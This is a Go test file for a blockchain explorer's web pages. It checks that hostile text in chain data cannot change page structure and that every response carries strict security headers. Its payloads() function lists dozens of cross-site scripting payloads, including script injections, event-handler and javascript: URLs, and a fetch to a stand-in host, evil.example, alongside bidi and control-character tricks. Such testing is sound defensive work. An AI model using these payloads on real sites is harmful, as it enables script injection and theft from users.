package explorer

import (
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/stretchr/testify/require"
	"golang.org/x/net/html"

	"github.com/spdl/spdl/internal/stage"
)

// everyPage is every page, and every JSON answer, that shows text of the chain.
var everyPage = []string{
	"/", "/blocks", "/block/3", "/tx/" + "aa" + strings.Repeat("0", 62), "/tx/bb" + strings.Repeat("0", 62), "/rounds",
	"/round/0/2", "/participants",
	"/participant/3", "/validators",
	"/model", "/verify", "/round/0/999", "/search?q=3", "/params", "/governance", "/evidence",
	"/v1/status", "/v1/params", "/v1/epochs", "/v1/rounds", "/v1/rounds/2", "/v1/participants", "/v1/privacy",
	"/v1/models/2", "/v1/rounds/999",
}

// payloads are texts that want to be more: markup, breaks out of attributes,
// scripts, templates and comments; and letters that turn, hide or pile up.
func payloads() []string {
	out := []string{}
	run := []string{"alert(1)", "window.hit=1", "document.title='hit'", "fetch('//evil.example')", "parent.hit=1"}
	for _, js := range run {
		for _, form := range []string{
			`<script>%s</script>`, `"><script>%s</script>`, `'><script>%s</script>`, `</title><script>%s</script>`,
			`</textarea><script>%s</script>`,
			`--><script>%s</script>`, `]]><script>%s</script>`, `<img src=x onerror=%s>`, `<img src=x onerror="%s">`,
			`"><img src=x onerror=%s>`,
			`<svg onload=%s>`, `<svg/onload=%s>`, `</svg><svg onload=%s>`, `<body onload=%s>`,
			`<iframe srcdoc="<script>%s</script>">`, `<iframe src="javascript:%s">`,
			`<a href="javascript:%s">x</a>`, `javascript:%s`, `" onmouseover="%s`, `' onfocus='%s' autofocus='`, ` onload=%s `,
			"`onclick=%s`", `<details open ontoggle=%s>`,
			`<math><mtext></mtext><script>%s</script></math>`, `<object data="javascript:%s">`,
			`<meta http-equiv=refresh content="0;javascript:%s">`,
			`<template><script>%s</script></template>`, `<noscript><p title="</noscript><img src=x onerror=%s>">`, `{{.%s}}`,
			`{{"<script>%s</script>"}}`,
			`<base href="https://evil.example/"><script src=%s></script>`, `<style>@import '%s'</style>`,
			`<x style="behavior:url(%s)">`, `\u003cscript\u003e%s\u003c/script\u003e`,
			`</script><script>%s</script>`, `<link rel=import href="data:text/html,<script>%s</script>">`,
			`<form action="javascript:%s"><button>`,
		} {
			out = append(out, fmt.Sprintf(form, js))
		}
	}
	return append(out,
		"\u202egnp.exe", "a\u2066b\u2069", "\u200f\u200e", "zero\u200bwidth", "\ufeffbom", "nul\x00", "esc\x1b[2J", "bell\a",
		"\x7f", "line\u2028break\u2029", "tab\tfeed\n\r",
		"bad\xff\xfeutf8", "soft\u00adhyphen", "\U000e0001tag", "nbsp\u00a0", "\ue000private",
		"z"+strings.Repeat("\u0301", 60), "\ufdd0", "\U0001f600", "مرحبا", "&lt;script&gt;", "&#60;b&#62;")
}

var ownTags = map[string]bool{}

func init() {
	for _, t := range strings.Fields("html head meta title link script body a header strong nav ul li form label input " +
		"button main footer h1 h2 p dl dt dd div small svg rect text " +
		"polyline polygon line path g title span time details summary br mark pre abbr dfn section h3 ol select option em " +
		"table caption datalist pattern defs thead tbody tr th td meter figure figcaption img code bdi q circle noscript") {
		ownTags[t] = true
	}
}

// skeleton returns a page's tags and the names of their attributes: what a browser
// makes of it, without the texts.
func skeleton(t *testing.T, page string) string {
	t.Helper()
	var b strings.Builder
	z := html.NewTokenizer(strings.NewReader(page))
	for {
		switch z.Next() {
		case html.ErrorToken:
			return b.String()
		case html.StartTagToken, html.SelfClosingTagToken:
			tok := z.Token()
			require.True(t, ownTags[tok.Data], "tag %q", tok.Data)
			b.WriteString("<" + tok.Data)
			for _, a := range tok.Attr {
				require.False(t, strings.HasPrefix(a.Key, "on") || a.Key == "style" || a.Key == "srcdoc", "attribute %s of %s",
					a.Key, tok.Data)
				if a.Key == "href" || a.Key == "src" || a.Key == "action" {
					require.True(t, strings.HasPrefix(a.Val, "/") && !strings.HasPrefix(a.Val, "//") || a.Val == "#main", "%s=%q",
						a.Key, a.Val)
				}
				b.WriteString(" " + a.Key)
			}
			b.WriteString(">")
		case html.CommentToken:
			t.Fatal("a comment")
		default: // texts and ends
		}
	}
}

// TestHostileText: through every text of the chain, no payload changes what a
// page consists of, and none reaches it with a character that does not print.
func TestHostileText(t *testing.T) {
	all := payloads()
	require.GreaterOrEqual(t, len(all), 200)
	harmless := map[string]string{}
	plain := over(t, newFake(6, "plain"), Options{})
	for _, path := range everyPage {
		if w := get(plain, path); !strings.HasPrefix(path, "/v1") {
			harmless[path] = skeleton(t, w.Body.String())
		}
	}
	every := stage.Pick(20, 4, 1) // of them one is played
	for i, text := range all {
		if i%every != 0 {
			continue
		}
		s := over(t, newFake(6, text), Options{})
		for _, path := range append(everyPage, "/search?q="+url.QueryEscape("§"+text), "/v1/rounds/"+url.PathEscape(text),
			"/block/"+url.PathEscape(text)) {
			w := get(s, path)
			body := w.Body.String()
			require.True(t, utf8.ValidString(body), "%q on %s", text, path)
			for _, r := range body {
				require.True(t, unicode.IsPrint(r) || r == '\n' || r == '\t', "%q on %s: %U", text, path, r)
			}
			if w.Code == http.StatusSeeOther || w.Code == http.StatusTemporaryRedirect || w.Code == http.StatusMovedPermanently {
				require.True(t, strings.HasPrefix(w.Header().Get("Location"), "/"), w.Header().Get("Location"))
				continue
			}
			if strings.HasPrefix(path, "/v1") {
				require.Equal(t, "application/json", w.Header().Get("Content-Type"))
				require.NotContains(t, body, "<", "%q on %s", text, path)
				continue
			}
			if strings.ContainsAny(text, "<>") {
				require.NotContains(t, body, text, path)
			}
			got := skeleton(t, body)
			if want, ok := harmless[path]; ok && text != "" {
				require.Equal(t, want, got, "%q on %s", text, path)
			}
		}
	}
	t.Log((len(all)+every-1)/every, "payloads on", len(everyPage)+3, "paths")
}

// TestHeaders: every answer of any kind carries them.
func TestHeaders(t *testing.T) {
	s := over(t, newFake(6, "x"), Options{})
	for _, path := range append(everyPage, "/nothing", "/assets/style.css", "/assets/live.js", "/model/confusion.csv",
		"/v1/openapi.json", "/v1/nothing", "/search?q=0/2") {
		h := get(s, path).Header()
		want := "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self' data:; connect-src 'self'; " +
			"form-action 'self'; base-uri 'none'; frame-ancestors 'none'"
		if path == "/verify" { // runs WebAssembly, in a worker
			want = "default-src 'none'; script-src 'self' 'wasm-unsafe-eval'; style-src 'self'; img-src 'self' data:; " +
				"connect-src 'self'; worker-src 'self'; form-action 'self'; base-uri 'none'; frame-ancestors 'none'"
		}
		require.Equal(t, want, h.Get("Content-Security-Policy"), path)
		require.Equal(t, "nosniff", h.Get("X-Content-Type-Options"), path)
		require.Equal(t, "no-referrer", h.Get("Referrer-Policy"), path)
		require.Empty(t, h.Get("Access-Control-Allow-Origin"), path)
		require.Empty(t, h.Get("Set-Cookie"), path)
	}
	for _, path := range []string{"/", "/model", "/round/0/1"} { // nothing inline, nothing foreign
		body := get(s, path).Body.String()
		require.NotContains(t, body, "style=")
		require.NotContains(t, body, "http://")
		require.NotContains(t, body, "https://")
	}
}
